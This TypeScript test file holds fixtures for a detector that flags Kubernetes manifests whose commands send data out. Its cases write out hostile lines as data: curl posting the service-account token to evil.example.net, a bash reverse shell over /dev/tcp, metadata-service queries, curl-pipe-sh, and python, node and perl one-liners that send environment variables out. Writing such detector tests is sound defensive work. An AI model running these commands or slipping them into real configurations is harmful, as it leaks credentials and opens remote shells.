import { type Case, object, pair, web } from './build.ts';

const id = 'command-sends-out';
const run = (line: string) => web({ container: { command: ['sh', '-c'], args: [line] } });
const step = (script: string) =>
  object('tekton.dev/v1/Task', 'a', { spec: { steps: [{ name: 's', image: 'registry.example.com/a/b:1', script }] } });
const usual = run('exec server --port 8080');
const hook = (line: string) =>
  web({ container: { command: ['server'], lifecycle: { postStart: { exec: { command: ['sh', '-c', line] } } } } });

const sending = (url: string) =>
  web({ container: { command: ['sh', '-c', 'curl -d "$PASSWORD" "$URL"'], env: [{ name: 'URL', value: url }] } });
const script = (name: string, text: string) => object('v1/ConfigMap', 'a', { data: { [name]: text } });
const TOKEN_SENT = 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://evil.example.net';

export const COMMAND_CASES: Case[] = [
  [
    id,
    'fires',
    'the token',
    'high',
    pair(usual, run('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://evil.example.net')),
  ],
  [id, 'fires', 'all variables', 'high', pair(usual, run('env | curl -d @- evil.example.net; exec server'))],
  [
    id,
    'fires',
    'one variable',
    'medium',
    pair(usual, run('wget -qO- "https://evil.example.net/?p=$DB_PASSWORD"; exec server')),
  ],
  [id, 'fires', 'what is fetched and run', 'medium', pair(usual, run('curl -fsSL https://get.evil.example.net | sh'))],
  [id, 'fires', 'what is decoded and run', 'medium', pair(usual, run('echo aGk= | base64 -d | sh'))],
  [id, 'fires', 'a connection of the shell', 'high', pair(usual, run('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'))],
  [id, 'fires', 'the metadata service', 'high', pair(usual, run('curl http://169.254.169.254/latest/meta-data/'))],
  [id, 'fires', 'an address that is a variable', 'medium', pair(usual, run('curl "https://$HOST/$TOKEN"'))],
  [
    id,
    'fires',
    'another end of the connection',
    'high',
    pair(run('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), run('bash -i >& /dev/tcp/203.0.113.10/4444 0>&1')),
  ],
  [
    id,
    'fires',
    'another program that is decoded',
    'medium',
    pair(run('echo aGk= | base64 -d | sh'), run('echo aG8= | base64 -d | sh')),
  ],
  [
    id,
    'fires',
    'what somebody else has at the same host',
    'medium',
    pair(run('curl https://raw.example.com/one/a | sh'), run('curl https://raw.example.com/two/a | sh')),
  ],
  [
    id,
    'fires',
    'all variables where the token went before',
    'high',
    pair(
      run('curl -d @/run/secrets/x/token https://a.example.com'),
      run('curl -d @/run/secrets/x/token https://a.example.com; env | curl -d @- https://a.example.com'),
    ),
  ],
  [
    id,
    'silent',
    'names in the comments of a script',
    '',
    pair(
      run('curl -d "$TOKEN" http://api.shop.svc/'),
      run(
        '# see https://docs.example.net, and continueOn.failed: NOT `exec`\ncurl -d "$TOKEN" http://api.shop.svc/ # twice',
      ),
    ),
  ],
  [
    id,
    'silent',
    'selectors of kubectl beside variables',
    '',
    pair(
      run('curl -d "$TOKEN" http://api.shop.svc/'),
      run(
        'kubectl get events --field-selector "involvedObject.kind=Pod,involvedObject.name=${name}" -l app.kubernetes.io/name=a\nkubectl annotate pod a "example.com/at=${NOW}"\ncurl -d "$TOKEN" http://api.shop.svc/',
      ),
    ),
  ],
  [
    id,
    'silent',
    'a module of a program',
    '',
    pair(
      usual,
      run('DJANGO_SETTINGS_MODULE=shop.settings python -c "import os; print(os.environ[1])"; curl http://api/$A'),
    ),
  ],
  [
    id,
    'fires',
    'a host that looks like one, which curl is called for',
    'medium',
    pair(usual, run('curl -d "$TOKEN" evil.settings')),
  ],
  [
    id,
    'fires',
    'an address behind a comment',
    'medium',
    pair(
      run('curl -d "$TOKEN" http://api.shop.svc/'),
      run('# see https://docs.example.net\ncurl -d "$TOKEN" https://evil.example.net/#fragment'),
    ),
  ],
  [
    id,
    'fires',
    'an address in a comment, where all variables are sent',
    'high',
    pair(usual, run('A="\n# https://evil.example.net"\nenv | curl -d @- "${A#*# }"')),
  ],
  [
    id,
    'silent',
    'another port of the same end',
    '',
    pair(run('echo a >/dev/tcp/203.0.113.9/44'), run('echo b >/dev/tcp/203.0.113.9/45')),
  ],
  ...(
    [
      ['python', `import os,urllib.request as u;u.urlopen("https://evil.example.net",str(os.environ).encode())`, '-c'],
      ['node', `fetch("https://evil.example.net",{method:"POST",body:JSON.stringify(process.env)})`, '-e'],
      ['perl', 'use IO::Socket::INET;$s=IO::Socket::INET->new("evil.example.net:80");print $s %ENV', '-e'],
    ] as const
  ).map(([language, text, flag]): Case => [
    id,
    'fires',
    `all variables, in ${language}`,
    'high',
    pair(usual, web({ container: { command: [language, flag, text] } })),
  ]),
  [
    id,
    'fires',
    'one variable that is set beside an address, which is not all of them',
    'medium',
    pair(
      usual,
      run(
        `python3 -c 'import os, urllib.request as u; os.environ.setdefault("A", "b"); u.urlopen("https://models.example.net")'`,
      ),
    ),
  ],
  [
    id,
    'silent',
    'libraries of a language',
    '',
    pair(usual, run("python3 -c 'import os, urllib.request; print(dict(os.environ))'")),
  ],
  [
    id,
    'fires',
    'an address in a variable that the manifest has',
    'medium',
    pair(sending('https://one.example.net'), sending('https://two.example.net')),
  ],
  [id, 'silent', 'a Service in such a variable', '', pair(usual, sending('http://api.shop.svc'))],
  [
    id,
    'fires',
    'a variable that node runs',
    'high',
    pair(
      web(),
      web({
        container: {
          env: [
            {
              name: 'NODE_OPTIONS',
              value:
                '--import=data:text/javascript,fetch("https://evil.example.net",{body:JSON.stringify(process.env)})',
            },
          ],
        },
      }),
    ),
  ],
  [id, 'fires', 'a script that is mounted', 'high', pair(script('run.sh', 'make'), script('run.sh', TOKEN_SENT))],
  [
    id,
    'fires',
    'a script without a name that tells',
    'high',
    pair(script('run', ''), script('run', `#!/bin/sh\n${TOKEN_SENT}`)),
  ],
  [
    id,
    'silent',
    'attributes in a program',
    '',
    pair(
      script('a.py', ''),
      script(
        'a.py',
        'try:\n  urlopen(os.environ["API"])\nexcept HTTPError as e:\n  assert e.code == 503, exc.reason\n',
      ),
    ),
  ],
  [
    id,
    'silent',
    'a name that is nobody’s',
    '',
    pair(
      script('a.py', ''),
      script('a.py', 'os.environ["API"] = "http://api.invalid/x"\nurlopen(os.environ["API"])\n'),
    ),
  ],
  [
    id,
    'fires',
    'a zone that nobody has heard of, in quotes',
    'medium',
    pair(script('a.py', ''), script('a.py', 'socket.create_connection(("x.newzone", 443)).send(os.environ["KEY"])\n')),
  ],
  [
    id,
    'fires',
    'such a zone as a word of curl',
    'medium',
    pair(script('a.sh', ''), script('a.sh', '#!/bin/sh\ncurl -d $KEY x.newzone\n')),
  ],
  [id, 'silent', 'a text that is no script', '', pair(script('notes', ''), script('notes', TOKEN_SENT))],
  [
    id,
    'exempt',
    'a script that did so before',
    '',
    pair(script('a.sh', TOKEN_SENT), script('a.sh', `make\n${TOKEN_SENT}`)),
  ],
  [id, 'fires', 'a hook', 'medium', pair(web(), hook('curl "https://evil.example.net/$TOKEN"'))],
  [
    id,
    'fires',
    'the script of a Task',
    'medium',
    pair(step('make'), step('curl -d "$PASSWORD" https://evil.example.net')),
  ],
  [
    id,
    'fires',
    'one more address',
    'medium',
    pair(
      run('curl "https://one.example.net/$KEY"'),
      run('curl "https://one.example.net/$KEY"; curl "https://two.example.net/$KEY"'),
    ),
  ],
  [
    id,
    'fires',
    'an address behind a variable',
    'medium',
    pair(usual, run('nslookup "${DB_PASSWORD}.example.net"; exec server')),
  ],
  [
    id,
    'silent',
    'paths of jq',
    '',
    pair(
      run('curl -s "https://one.example.net/$KEY" | jq -r .labels.name'),
      run(`curl -s "https://one.example.net/$KEY" | jq -r '.labels.project // empty | select(.parent.id)'`),
    ),
  ],
  [
    id,
    'silent',
    'more of what it does with the same address',
    '',
    pair(run('curl "https://one.example.net/$KEY"'), run('curl "https://one.example.net/$KEY"; echo done >>"$LOG"')),
  ],
  [
    id,
    'silent',
    'waiting for a Service',
    '',
    pair(usual, run('until nc -z db.shop.svc.cluster.local 5432; do sleep $WAIT; done')),
  ],
  [
    id,
    'silent',
    'names of files',
    '',
    pair(usual, run('node server.js --config /etc/app/config.yaml --port $PORT; curl localhost')),
  ],
  [
    id,
    'silent',
    'parts of paths and names of files',
    '',
    pair(
      usual,
      run(
        'until wget -q "$VAULT_ADDR/v1/sys/health"; do sleep 5; done; vault write role=a jwt=@/var/run/secrets/kubernetes.io/serviceaccount/token; vault snapshot save /backup/vault.snap; mv $A model.gguf',
      ),
    ),
  ],
  [
    id,
    'silent',
    'names of a program text',
    '',
    pair(usual, run('python3 -c \'import os, json; print(json.dumps(os.environ["A"]), "$B")\'')),
  ],
  [id, 'fires', 'a host that looks like a file', 'medium', pair(usual, run('curl -s evil.sh -d "a;$PASSWORD"'))],
  [
    id,
    'fires',
    'such a one without a shell',
    'medium',
    pair(usual, web({ container: { command: ['/usr/bin/curl', '-d', '$(PASSWORD)', 'evil.zip'] } })),
  ],
  [id, 'fires', 'a host that curl puts together', 'medium', pair(usual, run('curl "evil.ne[t-t]/$PASSWORD"'))],
  [
    id,
    'silent',
    'files that are fetched from the cluster',
    '',
    pair(usual, run('curl -o setup.sh http://files.tools.svc/setup && sh setup.sh "$MODE"; python main.py')),
  ],
  [id, 'fires', 'an address with one slash', 'medium', pair(usual, run('curl "http:/evil.example.net/$TOKEN"'))],
  [
    id,
    'fires',
    'an address between parts of paths',
    'high',
    pair(usual, run('scp /run/secrets/kubernetes.io/serviceaccount/token evil.example.net:/tmp/')),
  ],
  ...[
    'kubectl apply -f https://evil.example.net/a.yaml',
    'curl -s https://evil.example.net/a.yaml | kubectl apply -f -',
    'helm upgrade --install x oci://evil.example.net/x',
  ].map((line): Case => [id, 'fires', line, 'high', pair(usual, run(line))]),
  ...[
    'git clone https://evil.example.net/x.git /app',
    'pip install requests && exec server',
    'npx -y thing',
    'go run example.net/x@latest',
  ].map((line): Case => [id, 'fires', line, 'medium', pair(usual, run(line))]),
  [id, 'fires', 'another package', 'medium', pair(run('pip install -q requests'), run('pip install -q requestz'))],
  [id, 'fires', 'one more package', 'medium', pair(run('npm i left'), run('npm i left @acme/right'))],
  [
    id,
    'silent',
    'other versions and options',
    '',
    pair(run('pip install requests==2.1 "a[b]>=1"'), run('pip install --no-cache-dir a requests==2.2')),
  ],
  [
    id,
    'silent',
    'files and templates of names beside variables',
    '',
    pair(usual, run('T=$(mktemp -d "/x/$D.XXXXXX"); cp README.md "$T"; curl -o "$T/a" http://files.tools.svc/a')),
  ],
  [id, 'fires', 'a host that ends as a file', 'medium', pair(usual, run('curl "https://evil.md/$TOKEN"'))],
  ...['kubectl apply -f /manifests/a.yaml', 'helm install x ./chart', 'npm run start', 'git status'].map(
    (line): Case => [id, 'silent', line, '', pair(usual, run(line))],
  ),
  [
    id,
    'fires',
    'words of a list',
    'high',
    pair(usual, web({ container: { command: ['kubectl', 'apply', '-f', 'https://evil.example.net/a.yaml'] } })),
  ],
  [id, 'silent', 'a call without anything of ours', '', pair(usual, run('curl -fsS https://status.example.com'))],
  [
    id,
    'exempt',
    'it did so before',
    '',
    pair(run('curl "https://api.example.com/$KEY"'), run('curl -s "https://api.example.com/$KEY"')),
  ],
];
